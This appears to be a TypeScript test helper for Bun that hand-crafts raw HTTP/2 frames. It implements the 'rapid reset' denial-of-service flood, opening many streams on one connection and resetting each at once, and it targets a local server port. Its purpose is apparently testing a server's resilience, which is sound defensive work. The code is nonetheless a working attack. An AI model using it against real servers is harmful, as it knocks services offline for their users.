import { once } from "node:events";
import net from "node:net";

/** Length and text, not compressed. */
function literal(text: string): Buffer {
  const bytes = Buffer.from(text);
  const length = bytes.length < 127 ? [bytes.length] : [127, bytes.length - 127];
  return Buffer.from([...length, ...bytes]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Opens `count` HTTP/2 streams on one connection and resets each at once ("rapid reset"); all leave in one write. */
export async function floodOfResets(port: number, path: string, contentType: string, count: number): Promise<void> {
  const fields = Object.entries({
    ":path": path,
    ":authority": "localhost",
    "content-type": contentType,
    te: "trailers",
  });
  const head = Buffer.concat([
    // From the static table: POST and http.
    Buffer.from([0x83, 0x86]),
    ...fields.flatMap(([name, value]) => [Buffer.from([0]), literal(name), literal(value)]),
  ]);
  const frames = [Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))];
  for (let stream = 1; stream < 2 * count; stream += 2) {
    frames.push(frame(1, 4, stream, head), frame(3, 0, stream, Buffer.from([0, 0, 0, 8])));
  }
  const socket = net
    .connect(port, "127.0.0.1")
    .on("error", () => {})
    .resume();
  await once(socket, "connect");
  socket.write(Buffer.concat(frames));
  await Bun.sleep(300);
  socket.destroy();
}
